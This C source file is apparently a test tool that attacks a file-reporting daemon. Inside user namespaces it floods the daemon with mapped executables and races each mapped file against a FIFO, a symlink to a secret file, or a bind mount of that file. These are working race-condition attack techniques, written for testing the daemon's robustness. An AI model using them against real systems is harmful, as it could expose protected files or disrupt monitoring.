// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * foreign.c -- attacks the way by which the daemon opens files of containers: in a user namespace and a mount namespace of
 * the calling user, processes wait in code of files that only they see, so that the module reports each file.
 *
 * usage: foreign flood N DIR	again and again, N processes with a new file each end a wait at the same time
 *        foreign swap DIR SECRET	again and again, a FIFO, a link to SECRET, or a mount of SECRET takes the place of a file
 *				that was mapped; prints "opened" if another process opens the FIFO
 */
#include <err.h>
#include <fcntl.h>
#include <sched.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <signal.h>
#include <time.h>
#include <unistd.h>

/* code: clock_nanosleep() with the three arguments of the call; x86_64 */
static const unsigned char wait_code[] = {
	0xb8, 0xe6, 0, 0, 0,	/* mov $230, %eax */
	0x45, 0x31, 0xd2,	/* xor %r10d, %r10d */
	0x0f, 0x05,		/* syscall */
	0xc3,			/* ret */
};

typedef long wait_fn(long clock, long flags, const struct timespec *t);

__attribute__((format(printf, 2, 3))) static void put(const char *path, const char *fmt, ...)
{
	va_list ap;
	FILE *f = fopen(path, "w");

	if (!f)
		err(1, "%s", path);
	va_start(ap, fmt);
	vfprintf(f, fmt, ap);
	va_end(ap);
	if (fclose(f))
		err(1, "%s", path);
}

/* Enter namespaces of the calling user, with an empty file system at @dir. */
static void enter(const char *dir)
{
	uid_t uid = getuid();
	gid_t gid = getgid();

	if (unshare(CLONE_NEWUSER | CLONE_NEWNS))
		err(1, "unshare");
	put("/proc/self/setgroups", "deny");
	put("/proc/self/uid_map", "0 %u 1", uid);
	put("/proc/self/gid_map", "0 %u 1", gid);
	if (mount("none", dir, "tmpfs", 0, NULL))
		err(1, "%s", dir);
}

/* Create the file @path, and map its code. */
static wait_fn *map_new(const char *path)
{
	int fd = open(path, O_RDWR | O_CREAT | O_EXCL, 0755);
	void *code;

	if (fd < 0 || write(fd, wait_code, sizeof(wait_code)) != sizeof(wait_code))
		err(1, "%s", path);
	code = mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);
	if (code == MAP_FAILED)
		err(1, "mmap");
	close(fd);
	return (wait_fn *)code;
}

static struct timespec in_ms(long ms)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	t.tv_nsec += ms * 1000000;
	t.tv_sec += t.tv_nsec / 1000000000;
	t.tv_nsec %= 1000000000;
	return t;
}

static void flood(int nr, const char *dir)
{
	for (int round = 0;; round++) {
		struct timespec until = in_ms(100);

		for (int i = 0; i < nr; i++) {
			pid_t child = fork();
			char path[256];

			if (child < 0)
				err(1, "fork");
			if (child)
				continue;
			prctl(PR_SET_PDEATHSIG, SIGKILL);
			snprintf(path, sizeof(path), "%s/%d.%d", dir, round, i);
			map_new(path)(CLOCK_MONOTONIC, TIMER_ABSTIME, &until);
			unlink(path);
			_exit(0);
		}
		while (wait(NULL) > 0)
			;
	}
}

/* Put another file in the place of @path, which is mapped. */
static void replace(int kind, const char *path, const char *fifo, const char *secret)
{
	char link[300];

	switch (kind) {
	case 0:
		if (rename(fifo, path) || mkfifo(fifo, 0666))
			err(1, "%s", fifo);
		break;
	case 1:
		snprintf(link, sizeof(link), "%s.link", path);
		if (symlink(secret, link) || rename(link, path))
			err(1, "%s", link);
		break;
	default:
		if (mount(secret, path, NULL, MS_BIND, NULL))
			err(1, "mount %s", secret);
	}
}

static void swap(const char *dir, const char *secret)
{
	static const struct timespec nap = { 0, 1000000 };
	char path[256], fifo[256];

	snprintf(fifo, sizeof(fifo), "%s/fifo", dir);
	if (mkfifo(fifo, 0666))
		err(1, "%s", fifo);
	for (int i = 0; i < 150; i++) {
		wait_fn *fn;
		int fd;

		snprintf(path, sizeof(path), "%s/%d", dir, i);
		fn = map_new(path);
		fn(CLOCK_MONOTONIC, 0, &nap);
		replace(i % 3, path, fifo, secret);
		for (int turn = 0; turn < 20; turn++) {
			fn(CLOCK_MONOTONIC, 0, &nap);
			if (i % 3)
				continue;
			/* without a reader, this fails with ENXIO */
			fd = open(path, O_WRONLY | O_NONBLOCK);
			if (fd >= 0) {
				puts("opened");
				fflush(stdout);
				close(fd);
			}
		}
		if (i % 3 == 2 && umount2(path, MNT_DETACH))
			err(1, "umount");
		unlink(path);
		munmap((void *)fn, 4096);
	}
	puts("swapped");
}

int main(int argc, char **argv)
{
	if (argc != 4)
		errx(2, "usage: foreign flood N DIR | swap DIR SECRET");
	if (!strcmp(argv[1], "flood")) {
		enter(argv[3]);
		flood(atoi(argv[2]), argv[3]);
	} else {
		enter(argv[2]);
		swap(argv[2], argv[3]);
	}
	return 0;
}
